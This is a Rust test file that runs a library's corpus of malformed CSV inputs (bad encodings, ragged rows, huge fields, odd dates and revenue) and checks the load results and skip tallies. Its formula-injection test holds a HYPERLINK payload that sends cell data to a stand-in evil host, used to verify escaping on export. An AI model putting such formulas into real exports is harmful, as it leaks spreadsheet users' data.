//! The bad-input corpus (`tests/data/bad/`, issue 8) through the library: one test
//! per file, each asserting the exact message or the exact skip tallies (from
//! `tests/common/bad.rs`), the rows invariant `rows_read = rows + Σ skipped`, and
//! the same outcome whether the bytes arrive whole or in small random chunks.
//! The CLI runs the same corpus in `tests/cli.rs`.

#[path = "common/bad.rs"]
mod bad;

use bad::Outcome;
use tidemark::ingest::{LoadOptions, Loader, load};
use tidemark::progress::Silent;
use tidemark::report::{Summary, csv_cell};
use tidemark::table::EventTable;

/// Loads `bytes` as `name` whole, then pushed in chunks of 1, 3, 7, … bytes (a
/// fixed pseudo-random walk), and checks both give the same summary or message.
fn load_both_ways(name: &str, bytes: &[u8]) -> Result<EventTable, String> {
    let whole = load(name, bytes, LoadOptions::default(), &mut Silent);
    let mut chunked = Loader::new(name, LoadOptions::default()).map_err(|e| e.to_string())?;
    let mut at = 0;
    let mut step = 1usize;
    let mut pushed = Ok(());
    while at < bytes.len() && pushed.is_ok() {
        // Small chunks first (every boundary case), then bigger ones so a 1 MB
        // input does not take a million pushes.
        let n = step.min(bytes.len() - at);
        pushed = chunked.push(&bytes[at..at + n]);
        at += n;
        step = if at < 4096 {
            (step * 7 + 3) % 61 + 1
        } else {
            65_536
        };
    }
    let chunked = pushed.and_then(|()| chunked.finish());
    match (whole, chunked) {
        (Ok(a), Ok(b)) => {
            assert_eq!(Summary::of(&a), Summary::of(&b), "{name}: whole vs chunked");
            Ok(a)
        }
        (Err(a), Err(b)) => {
            assert_eq!(a.to_string(), b.to_string(), "{name}: whole vs chunked");
            Err(a.to_string())
        }
        (a, b) => panic!(
            "{name}: whole load {:?} but chunked {:?}",
            a.map(|_| ()),
            b.map(|_| ())
        ),
    }
}

fn assert_rows_add_up(name: &str, t: &EventTable) {
    let s = Summary::of(t);
    let skipped: u64 = s.skipped.iter().map(|k| k.count).sum();
    assert_eq!(
        s.rows_read,
        s.rows + skipped,
        "{name}: rows_read = rows + Σ skipped"
    );
}

/// Checks corpus file `name` against its expected outcome; the table when loaded.
fn check(name: &str) -> Option<EventTable> {
    let want = bad::CORPUS
        .iter()
        .find(|(n, _)| *n == name)
        .map(|(_, o)| *o)
        .expect("the file is listed in tests/common/bad.rs");
    check_bytes(name, &bad::bytes(name), want)
}

fn check_bytes(name: &str, bytes: &[u8], want: Outcome) -> Option<EventTable> {
    match (load_both_ways(name, bytes), want) {
        (Err(got), Outcome::Refused(text)) => {
            assert_eq!(got, format!("{name}{text}"));
            None
        }
        (Ok(t), Outcome::Loaded { rows, skipped }) => {
            assert_rows_add_up(name, &t);
            assert_eq!(t.len() as u64, rows, "{name}: rows loaded");
            let got: Vec<(String, u64, Vec<u64>)> = t
                .meta()
                .skipped
                .iter()
                .map(|s| (s.reason.clone(), s.count, s.lines.clone()))
                .collect();
            let want: Vec<(String, u64, Vec<u64>)> = skipped
                .iter()
                .map(|(r, c, l)| (r.to_string(), *c, l.to_vec()))
                .collect();
            assert_eq!(got, want, "{name}: skipped rows");
            Some(t)
        }
        (Err(got), want) => panic!("{name}: refused with \"{got}\", expected {want:?}"),
        (Ok(_), want) => panic!("{name}: loaded, expected {want:?}"),
    }
}

fn users(t: &EventTable) -> Vec<&str> {
    (0..t.len() as u32).map(|r| t.user_id(t.user(r))).collect()
}

fn column_names(t: &EventTable) -> Vec<String> {
    t.meta().columns.iter().map(|c| c.name.clone()).collect()
}

#[test]
fn the_corpus_table_and_readme_list_every_file() {
    let dir = format!("{}/tests/data/bad", env!("CARGO_MANIFEST_DIR"));
    let readme = std::fs::read_to_string(format!("{dir}/README.md")).expect("README");
    let mut files: Vec<String> = std::fs::read_dir(&dir)
        .expect("corpus dir")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".csv"))
        .collect();
    files.sort();
    let mut listed: Vec<String> = bad::CORPUS.iter().map(|(n, _)| n.to_string()).collect();
    listed.sort();
    assert_eq!(
        files, listed,
        "tests/common/bad.rs lists exactly the corpus"
    );
    for f in &files {
        assert!(
            readme.contains(&format!("`{f}`")),
            "README.md describes {f}"
        );
    }
}

#[test]
fn empty() {
    check("empty.csv");
}

#[test]
fn header_only() {
    check("header_only.csv");
}

#[test]
fn png_renamed_csv() {
    check("png.csv");
}

#[test]
fn zip_renamed_csv() {
    check("zip.csv");
}

#[test]
fn xlsx_renamed_csv() {
    check("xlsx.csv");
}

#[test]
fn utf16_with_bom() {
    let t = check("utf16_bom.csv").expect("loads");
    assert_eq!(t.meta().encoding, "UTF-16LE");
    assert_eq!(column_names(&t), ["用户", "时间", "事件"]);
    let events: Vec<&str> = t.event_names().iter().collect();
    assert_eq!(events, ["浏览", "购买"]);
}

#[test]
fn gbk_without_bom() {
    let t = check("gbk_no_bom.csv").expect("loads");
    assert_eq!(t.meta().encoding, "GBK");
    assert_eq!(users(&t), ["张三", "李四", "王五"]);
    assert_eq!(t.revenue_total(), Some((99.5 + 12.0, 2)));
}

#[test]
fn mixed_line_endings() {
    let t = check("mixed_line_endings.csv").expect("loads");
    assert_eq!(users(&t), ["u1", "u2", "u3", "u4"]);
    let events: Vec<&str> = (0..4).map(|r| t.event_names().get(t.event(r))).collect();
    assert_eq!(
        events,
        ["a", "b", "c", "d"],
        "no terminator is left in a value"
    );
}

#[test]
fn quoted_newlines() {
    let t = check("quoted_newlines.csv").expect("loads");
    let note = t.property("note").expect("note column");
    assert_eq!(note.value(0), Some("two\nlines"));
    assert_eq!(note.value(1), Some("three\r\nphysical\nlines"));
}

#[test]
fn unterminated_quote() {
    check("unterminated_quote.csv");
}

#[test]
fn ragged_rows() {
    let t = check("ragged_rows.csv").expect("loads");
    assert_eq!(users(&t), ["u1", "u4", "u5"]);
}

#[test]
fn one_megabyte_field() {
    let bytes = bad::big_field();
    let field = bad::big_field_value();
    let newlines = field.matches('\n').count() as u64;
    // Line 1 header, 2 u1, 3.. the big record, then u3 after its newlines.
    let t = check_bytes(
        "big_field.csv",
        &bytes,
        Outcome::Loaded {
            rows: 3,
            skipped: &[],
        },
    )
    .expect("loads");
    assert_eq!(
        t.property("note").expect("note").value(1),
        Some(field.as_str())
    );
    assert_eq!(users(&t), ["u1", "u2", "u3"]);
    // The line numbers after the field count its newlines: a skipped row there
    // names its physical line.
    let mut text = String::from_utf8(bytes).expect("utf-8");
    text.push_str(",2024-01-04,d,x\n");
    let want_line = 1 + 1 + (1 + newlines) + 1 + 1;
    let t = load(
        "big_field.csv",
        text.as_bytes(),
        LoadOptions::default(),
        &mut Silent,
    )
    .expect("loads");
    assert_eq!(t.meta().skipped[0].lines, vec![want_line]);
    assert_rows_add_up("big_field.csv", &t);
}

#[test]
fn ten_thousand_columns() {
    let t = check_bytes(
        "wide.csv",
        &bad::wide(),
        Outcome::Loaded {
            rows: 3,
            skipped: &[],
        },
    )
    .expect("loads");
    assert_eq!(t.meta().columns.len(), bad::WIDE_COLUMNS);
    assert_eq!(
        t.properties().len(),
        bad::WIDE_COLUMNS - 3,
        "no column is dropped"
    );
    let last = t
        .property(&format!("p{}", bad::WIDE_COLUMNS - 1))
        .expect("the last column");
    assert_eq!(
        last.value(2),
        Some(format!("{}", (bad::WIDE_COLUMNS - 1) * 10 + 2).as_str())
    );
}

#[test]
fn duplicate_and_empty_header_names() {
    let t = check("duplicate_and_empty_headers.csv").expect("loads");
    assert_eq!(
        column_names(&t),
        [
            "user_id", "time", "event", "x", "x (2)", "column 6", "column 7"
        ]
    );
    assert_eq!(t.property("x (2)").expect("second x").value(1), Some("6"));
    assert_eq!(t.property("column 7").expect("last").value(0), Some("4"));
}

#[test]
fn all_empty_user_column() {
    check("empty_user_column.csv");
}

#[test]
fn three_timestamp_formats_mixed() {
    let t = check("mixed_timestamp_formats.csv").expect("loads");
    let times: Vec<String> = (0..3)
        .map(|r| tidemark::report::iso_utc(t.time(r)))
        .collect();
    // 1709460000 s = 2024-03-03T10:00:00Z.
    assert_eq!(
        times,
        [
            "2024-03-01T09:30:00Z",
            "2024-03-02T10:00:00Z",
            "2024-03-03T10:00:00Z"
        ]
    );
}

#[test]
fn dates_before_1970_and_after_2100() {
    let t = check("dates_out_of_range.csv").expect("loads");
    assert_eq!(users(&t), ["u5"]);
    // The bounds themselves: the first millisecond of 1970 and the last of 2100 load.
    let t = load(
        "edges.csv",
        b"user_id,time\na,1970-01-01T00:00:00Z\nb,2100-12-31T23:59:59.999Z\nc,1969-12-31T23:59:59.999Z\nd,2101-01-01T00:00:00Z\n",
        LoadOptions::default(),
        &mut Silent,
    )
    .expect("loads");
    assert_eq!(users(&t), ["a", "b"]);
    assert_eq!(t.meta().skipped[0].lines, vec![4, 5]);
}

#[test]
fn negative_and_non_numeric_revenue() {
    let t = check("revenue_negative_and_text.csv").expect("loads");
    assert_eq!(users(&t), ["u1", "u3", "u4"]);
    let rev: Vec<Option<f64>> = (0..3).map(|r| t.revenue(r)).collect();
    assert_eq!(rev, [Some(-12.5), Some(19.99), None]);
}

#[test]
fn nan_and_infinity_revenue() {
    let t = check("revenue_nan_infinity.csv").expect("loads");
    assert_eq!(users(&t), ["u4", "u5", "u7", "u8", "u9"]);
    assert_eq!(t.revenue_total(), Some((5.0 + 7.5 + 3.0 + 10.0 + 2.5, 5)));
}

#[test]
fn formula_injection_cells() {
    let t = check("formula_injection.csv").expect("loads");
    // Data is kept verbatim (a user id is an id, whatever it looks like; ids are
    // trimmed of surrounding spaces, as every role cell is)…
    let ids = users(&t);
    assert_eq!(
        ids,
        [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")",
            "@SUM(A1:A9)",
            "TAB"
        ]
    );
    assert_eq!(t.event_names().get(t.event(1)), "-2+3");
    let note = t.property("note").expect("note");
    assert_eq!(
        (note.value(0), note.value(1), note.value(2)),
        (Some("+1"), Some("=1+1"), Some("\rCR"))
    );
    // …and every export cell that a spreadsheet would run starts with a quote.
    for cell in ids[..2]
        .iter()
        .copied()
        .chain(["-2+3", "+1", "=1+1", "\rCR", "\tTAB"])
    {
        let out = csv_cell(cell);
        let unquoted = out.strip_prefix('"').unwrap_or(&out);
        assert!(unquoted.starts_with('\''), "{cell:?} exported as {out:?}");
    }
}
